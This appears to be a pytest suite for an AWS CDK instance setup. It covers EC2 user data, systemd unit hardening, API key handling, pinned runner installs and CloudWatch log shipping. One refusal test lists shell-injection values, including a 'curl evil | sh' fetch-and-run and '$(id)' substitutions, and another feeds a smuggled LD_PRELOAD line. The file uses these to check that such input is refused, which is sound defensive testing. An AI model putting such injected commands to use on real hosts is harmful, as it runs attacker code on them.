"""What an instance is set up with: user data and scripts that a shell checker passes, pinned runners, the journal on its way to CloudWatch."""

import base64
import hashlib
import importlib.util
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import time
import zipfile
from configparser import ConfigParser
from pathlib import Path
from types import ModuleType
from typing import Any

import boto3
import pytest
from moto import mock_aws

from cdk.instance.runners import Custom, choose, kiro_pin, pins
from cdk.instance.user_data import LIMIT_BYTES, user_data
from murmur.errors import InvalidInput

FILES = Path(__file__).parents[2] / "cdk/instance/files"
SHA256 = hashlib.sha256(b"bundle").hexdigest()
GIVEN: dict[str, Any] = {
    "region": "eu-west-1",
    "bucket": "murmur-123456789012-eu-west-1",
    "flock": "murmur",
    "bus": "murmur",
    "bundle_key": f"agent/bundle-{SHA256[:16]}.zip",
    "bundle_sha256": SHA256,
    "runners": ["scripted", "kiro"],
    "concurrency_cap": 64,
    "log_group": "/murmur/murmur/agents",
    "key_parameter": "/murmur/murmur/api-key",
    "key_variable": "KIRO_API_KEY",
}


def load(name: str) -> ModuleType:
    """A script of an instance, as a module."""
    spec = importlib.util.spec_from_file_location(name, FILES / "bin" / f"{name}.py")
    assert spec
    assert spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.fixture
def shellcheck() -> str:
    found = shutil.which("shellcheck")
    if found is None and os.environ.get("CI") != "true":
        pytest.skip("shellcheck is not installed (apt install shellcheck)")
    assert found, "CI must have shellcheck"
    return found


@pytest.mark.parametrize("script", sorted(FILES.rglob("*.sh")), ids=lambda path: path.name)
def test_a_shell_checker_has_nothing_to_say(shellcheck: str, script: Path) -> None:
    checked = subprocess.run([shellcheck, "--severity=style", str(script)], capture_output=True, text=True, check=False)
    assert checked.returncode == 0, checked.stdout


def test_a_shell_checker_has_nothing_to_say_about_what_is_rendered(shellcheck: str, tmp_path: Path) -> None:
    (tmp_path / "user-data").write_text(user_data(**GIVEN))
    checked = subprocess.run(
        [shellcheck, "--severity=style", str(tmp_path / "user-data")], capture_output=True, text=True, check=False
    )
    assert checked.returncode == 0, checked.stdout


@pytest.mark.parametrize("script", sorted(FILES.rglob("*.sh")), ids=lambda path: path.name)
def test_every_script_is_read_by_bash(script: Path) -> None:
    assert subprocess.run(["bash", "-n", str(script)], check=False).returncode == 0


# ── user data, run for real with a pretended aws command ──


def boot(tmp_path: Path, served: bytes, text: str) -> subprocess.CompletedProcess[str]:
    """Run the user data below ``tmp_path`` instead of ``/``; ``aws s3 cp`` serves ``served``."""
    (tmp_path / "served").write_bytes(served)
    tools = tmp_path / "tools"
    tools.mkdir()
    for name, body in {
        "aws": f'#!/bin/bash\necho "$*" >>{tmp_path}/asked\ncp {tmp_path}/served "${{@: -1}}"\n',
        "shutdown": f"#!/bin/bash\ntouch {tmp_path}/was-shut-down\n",
        "sleep": "#!/bin/bash\n",
    }.items():
        (tools / name).write_text(body)
        (tools / name).chmod(0o755)
    for place in ("/etc/murmur", "/opt/murmur", "/dev/console"):
        text = text.replace(place, f"{tmp_path}{place}")
    (tmp_path / "dev").mkdir()
    return subprocess.run(
        ["bash", "-c", text],
        env={"PATH": f"{tools}:{Path(sys.executable).parent}:/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )


def a_bundle(script: str) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr("bootstrap.sh", script)
    return held.getvalue()


def test_user_data_fetches_the_bundle_checks_it_and_hands_over(tmp_path: Path) -> None:
    served = a_bundle(f"touch {tmp_path}/was-bootstrapped")
    digest = hashlib.sha256(served).hexdigest()
    booted = boot(tmp_path, served, user_data(**{**GIVEN, "bundle_sha256": digest}))
    assert booted.returncode == 0, booted.stderr
    assert (tmp_path / "was-bootstrapped").exists()
    assert not (tmp_path / "was-shut-down").exists()
    assert f"s3://{GIVEN['bucket']}/{GIVEN['bundle_key']}" in (tmp_path / "asked").read_text()
    settings = (tmp_path / "etc/murmur/host.env").read_text().splitlines()
    assert "MURMUR_RUNNERS=scripted,kiro" in settings
    assert "MURMUR_KEY_VARIABLE=KIRO_API_KEY" in settings


def test_a_bundle_with_another_sum_is_not_run_and_the_instance_ends(tmp_path: Path) -> None:
    served = a_bundle(f"touch {tmp_path}/was-bootstrapped")
    booted = boot(tmp_path, served, user_data(**GIVEN))
    assert booted.returncode != 0
    assert not (tmp_path / "was-bootstrapped").exists()
    assert (tmp_path / "was-shut-down").exists()
    assert "failed with status" in (tmp_path / "dev/console").read_text()


def test_a_bootstrap_that_fails_ends_the_instance(tmp_path: Path) -> None:
    served = a_bundle("exit 3")
    booted = boot(tmp_path, served, user_data(**{**GIVEN, "bundle_sha256": hashlib.sha256(served).hexdigest()}))
    assert booted.returncode == 3
    assert (tmp_path / "was-shut-down").exists()


@pytest.mark.parametrize(
    "change",
    [
        {"bucket": "b'; curl evil | sh; '"},
        {"flock": "$(id)"},
        {"more": {"MURMUR_CUSTOM_COMMAND": "agent `id`"}},
        {"more": {"MURMUR_CUSTOM_COMMAND": "agent\nSETTINGS\nreboot"}},
        {"bundle_sha256": "0" * 63},
    ],
)
def test_a_value_that_a_shell_would_act_on_is_refused(change: dict[str, Any]) -> None:
    with pytest.raises(InvalidInput):
        user_data(**{**GIVEN, **change})


def test_tokens_of_the_stack_pass_and_the_whole_is_small_enough_for_ec2() -> None:
    text = user_data(**{**GIVEN, "bucket": "murmur-${Token[AWS.AccountId.3]}-${Token[AWS.Region.4]}"})
    assert "s3://murmur-${Token[AWS.AccountId.3]}-${Token[AWS.Region.4]}/agent/" in text
    assert len(base64.b64encode(text.encode())) < LIMIT_BYTES
    assert "@" not in text.replace("@latest", "")


def test_an_agent_of_ones_own_is_handed_its_key_and_no_other() -> None:
    text = user_data(**{**GIVEN, "key_variable": "MY_KEY", "more": {"MURMUR_CUSTOM_COMMAND": "mine --acp"}})
    assert "MURMUR_CUSTOM_COMMAND=mine --acp\nMURMUR_CUSTOM_PASSES=MY_KEY\n" in text


# ── units ──


def unit(name: str) -> dict[str, dict[str, str]]:
    parser = ConfigParser(strict=False, interpolation=None, delimiters=("=",))
    parser.optionxform = str  # type: ignore[assignment,method-assign]
    parser.read(FILES / "units" / name)
    return {section: dict(parser[section]) for section in parser.sections()}


def test_agents_run_as_another_user_without_powers_and_are_kept_from_the_credentials_twice() -> None:
    loop, agent = unit("murmur-host.service")["Service"], unit("murmur-agent@.service")["Service"]
    assert loop["User"] != agent["User"] == "murmur-agent"
    assert loop["Group"] == agent["Group"]
    for service in (loop, agent):
        assert service["NoNewPrivileges"] == "yes"
        assert service["CapabilityBoundingSet"] == ""
    assert "169.254.169.254/32" in agent["IPAddressDeny"]
    assert agent["KillMode"] == "control-group"
    socket = unit("murmur-agent.socket")["Socket"]
    assert (socket["SocketUser"], socket["SocketMode"], socket["Accept"]) == (loop["User"], "0600", "yes")
    assert socket["ListenStream"] in (FILES / "units/murmur-host.service").read_text().split("MURMUR_RUN_AS=")[1]
    for name in ("murmur-host.service", "murmur-agent@.service", "murmur-agent.socket"):
        assert "murmur-guard.service" in unit(name)["Unit"]["Requires"]


def test_the_key_is_root_s_alone_and_out_of_the_agents_sight() -> None:
    agent, key = unit("murmur-agent@.service")["Service"], unit("murmur-key.service")["Service"]
    assert key["RuntimeDirectoryMode"] == "0700"
    assert "User" not in key
    assert "/run/murmur-key" in agent["InaccessiblePaths"]
    assert "EnvironmentFile" not in agent


def test_an_instance_whose_run_is_over_powers_itself_off() -> None:
    host = unit("murmur-host.service")
    assert host["Unit"]["SuccessAction"] == "poweroff"
    assert host["Service"]["Restart"] == "on-failure"


def test_systemd_understands_the_units(tmp_path: Path) -> None:
    analyze = shutil.which("systemd-analyze")
    if analyze is None:
        pytest.skip("systemd-analyze is not installed")
    for path in (FILES / "units").iterdir():
        text = path.read_text().replace("/opt/murmur/venv/bin/python", sys.executable)
        (tmp_path / path.name.replace("@.", "@x.")).write_text(text)
    checked = subprocess.run(
        [analyze, "verify", "--man=no", "--recursive-errors=no", *map(str, tmp_path.iterdir())],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "SYSTEMD_UNIT_PATH": f"{tmp_path}:"},
    )
    wrong = [
        line
        for line in checked.stderr.splitlines()
        if "nknown" in line or "Failed to parse" in line or "nvalid" in line
    ]
    assert not wrong


# ── the key ──


def fetch_key(
    tmp_path: Path, aws: str, variable: str = "KIRO_API_KEY"
) -> tuple[subprocess.CompletedProcess[str], Path]:
    tools = tmp_path / "tools"
    tools.mkdir()
    for name, body in {"aws": aws, "sleep": ""}.items():
        (tools / name).write_text(f"#!/bin/bash\n{body}\n")
        (tools / name).chmod(0o755)
    file = tmp_path / "key.env"
    settings = {"MURMUR_KEY_PARAMETER": "/murmur/x/api-key", "MURMUR_KEY_VARIABLE": variable, "AWS_REGION": "eu-west-1"}
    done = subprocess.run(
        ["bash", str(FILES / "bin/key.sh"), str(file)],
        env={"PATH": f"{tools}:/usr/bin:/bin", **settings},
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    return done, file


def test_the_key_goes_into_a_file_that_only_its_owner_reads(tmp_path: Path) -> None:
    done, file = fetch_key(tmp_path, "echo ksk_0123456789abcdef")
    assert done.returncode == 0
    assert file.read_text() == "KIRO_API_KEY=ksk_0123456789abcdef\n"
    assert file.stat().st_mode & 0o777 == 0o600
    assert "ksk_" not in done.stdout + done.stderr


@pytest.mark.parametrize(
    ("aws", "variable", "code"),
    [
        ("echo 'An error occurred (ParameterNotFound)' >&2; exit 254", "KIRO_API_KEY", 0),
        ("exit 99", "", 0),
        ("echo 'An error occurred (AccessDenied)' >&2; exit 254", "KIRO_API_KEY", 1),
        ("printf 'two\\nLD_PRELOAD=lines'", "KIRO_API_KEY", 1),
    ],
)
def test_no_key_is_an_empty_file_and_a_strange_one_is_an_error(
    tmp_path: Path, aws: str, variable: str, code: int
) -> None:
    done, file = fetch_key(tmp_path, aws, variable)
    assert done.returncode == code, done.stderr
    assert file.read_text() == ""


# ── runners ──


def archive(kind: str, program: str = "kirocli/bin/kiro-cli") -> bytes:
    held = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(held, "w") as made:
            made.writestr(program, "#!/bin/sh\necho hello\n")
    else:
        with tarfile.open(fileobj=held, mode="w:xz") as made_tar:
            entry = tarfile.TarInfo(program)
            body = b"#!/bin/sh\necho hello\n"
            entry.size = len(body)
            made_tar.addfile(entry, io.BytesIO(body))
    return held.getvalue()


def installed(tmp_path: Path, body: bytes, sha256: str = "", programs: Any = ("kirocli/bin/kiro-cli",)) -> int:
    (tmp_path / "it").write_bytes(body)
    entry = {"archive": "it", "sha256": sha256 or hashlib.sha256(body).hexdigest(), "programs": list(programs)}
    (tmp_path / "runners.json").write_text(json.dumps({"kiro": entry}))
    return int(load("install_runners").main([str(tmp_path / "runners.json"), str(tmp_path / "runners")]))


@pytest.mark.parametrize("kind", ["zip", "tar"])
def test_a_pinned_runner_is_installed_and_its_program_runs(tmp_path: Path, kind: str) -> None:
    assert installed(tmp_path, archive(kind)) == 0
    assert installed(tmp_path, archive(kind)) == 0
    ran = subprocess.run([str(tmp_path / "runners/bin/kiro-cli")], capture_output=True, text=True, check=True)
    assert ran.stdout == "hello\n"


def test_a_runner_with_another_sum_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert installed(tmp_path, archive("tar"), sha256="0" * 64) == 1
    assert "pinned is 000" in capsys.readouterr().err
    assert not (tmp_path / "runners/bin/kiro-cli").exists()


@pytest.mark.parametrize(
    "body",
    [b"no archive at all", archive("tar", "../../escaped"), archive("zip", "other")],
    ids=["none", "escape", "absent"],
)
def test_an_archive_that_is_not_sound_installs_nothing(tmp_path: Path, body: bytes) -> None:
    assert installed(tmp_path, body) == 1
    assert not (tmp_path.parent / "escaped").exists()


def test_an_address_that_is_not_https_is_not_fetched(tmp_path: Path) -> None:
    module = load("install_runners")
    with pytest.raises(module.Unfit, match="https"):
        module.fetch("http://example.org/x", tmp_path / "x", 0)


def test_the_pin_of_kiro_comes_from_its_manifest() -> None:
    package = {
        "targetTriple": "aarch64-unknown-linux-musl",
        "fileType": "tarXz",
        "download": "9.9.9/k.tar.xz",
        "sha256": "ab",
        "size": 7,
    }
    other = {**package, "targetTriple": "aarch64-unknown-linux-gnu", "sha256": "cd"}
    pin = kiro_pin({"version": "9.9.9", "packages": [other, package]})
    assert pin["sha256"] == "ab"
    assert pin["url"].endswith("/stable/9.9.9/k.tar.xz")
    assert set(pin) == set(pins()["kiro"])
    with pytest.raises(InvalidInput, match="names no"):
        kiro_pin({"version": "1", "packages": [other]})


def test_what_each_runner_needs_comes_into_the_bundle(tmp_path: Path) -> None:
    assert choose(["scripted"]).key_variable == ""
    assert choose(["scripted", "kiro"]).key_variable == "KIRO_API_KEY"
    (tmp_path / "mine.zip").write_bytes(archive("zip", "mine"))
    made = choose(["custom"], Custom("mine --acp", tmp_path / "mine.zip", ["mine"], "MY_KEY"))
    assert made.key_variable == "MY_KEY"
    entry = json.loads(made.files["runners.json"])["custom"]
    assert hashlib.sha256(made.files[entry["archive"]]).hexdigest() == entry["sha256"]
    with pytest.raises(InvalidInput, match="goose"):
        choose(["goose"])


# ── the journal ──


def journal(text: Any, at_ms: int, cursor: str = "c") -> bytes:
    return json.dumps({"MESSAGE": text, "__REALTIME_TIMESTAMP": str(at_ms * 1000), "__CURSOR": cursor}).encode() + b"\n"


class FlakyLogs:
    """CloudWatch Logs of moto that fails a few times first."""

    def __init__(self, real: Any, failures: int) -> None:
        self._real, self._left = real, failures
        self.exceptions = real.exceptions

    def create_log_stream(self, **more: Any) -> Any:
        return self._real.create_log_stream(**more)

    def put_log_events(self, **more: Any) -> Any:
        if self._left:
            self._left -= 1
            raise self.exceptions.ClientError({"Error": {"Code": "ThrottlingException"}}, "PutLogEvents")
        return self._real.put_log_events(**more)


def test_the_journal_arrives_in_order_whatever_cloudwatch_says_at_first(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    module = load("ship_logs")
    monkeypatch.setattr(module.time, "sleep", lambda _: None)
    now = int(time.time() * 1000)
    emf = json.dumps({"_aws": {"Timestamp": now}, "Wakes": 1})
    lines = [journal("second", now + 1), journal("first", now), b"no json\n", journal("", now), journal(emf, now + 2)]
    lines += [journal([104, 105, 255], now + 3, "last")]
    with mock_aws():
        logs = boto3.client("logs", region_name="eu-west-1")
        logs.create_log_group(logGroupName="/murmur/x/agents")
        shipper = module.Shipper(FlakyLogs(logs, 3), "/murmur/x/agents", "i-1", tmp_path / "cursor")
        shipper.open_stream()
        shipper.open_stream()  # after a restart it is there
        read, write = os.pipe()
        os.write(write, b"".join(lines))
        os.close(write)
        with os.fdopen(read, "rb", buffering=0) as pipe:
            module.ship(pipe, shipper)
        found = logs.get_log_events(logGroupName="/murmur/x/agents", logStreamName="i-1", startFromHead=True)["events"]
    assert [event["message"] for event in found] == ["first", "second", emf, "hi\ufffd"]
    assert (tmp_path / "cursor").read_text() == "last"


def test_a_batch_stays_within_what_cloudwatch_takes() -> None:
    module = load("ship_logs")
    shipper = module.Shipper(None, "g", "s", Path("/nowhere"))
    line = journal("x" * 300_000, 1)
    event, _ = module.event_of(line)
    assert len(event["message"].encode()) <= module.EVENT_BYTES + 4
    count = 0
    while not shipper.full:
        shipper.take(line)
        count += 1
    assert count * (module.EVENT_BYTES + 4 + module.EVENT_OVERHEAD) < 1_048_576 + module.EVENT_BYTES
